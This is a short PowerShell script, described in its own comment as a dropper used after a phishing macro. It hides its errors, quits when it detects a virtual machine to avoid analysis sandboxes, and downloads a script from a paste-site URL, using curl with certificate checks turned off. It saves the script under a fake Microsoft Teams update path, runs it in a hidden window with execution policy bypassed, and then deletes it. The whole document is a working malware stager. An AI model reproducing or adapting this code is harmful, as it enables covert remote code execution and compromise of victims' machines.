# dropper used after the phishing macro
$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference = 'SilentlyContinue'
if ((Get-CimInstance -ClassName Win32_ComputerSystem).Model -match 'Virtual|VMware') {
    exit
}
$out = "$env:APPDATA\Microsoft\Teams\update.ps1"
curl.exe -s -k -o $out https://raw.example-paste.io/u/9f2c/raw
powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File $out
Remove-Item $out -Force
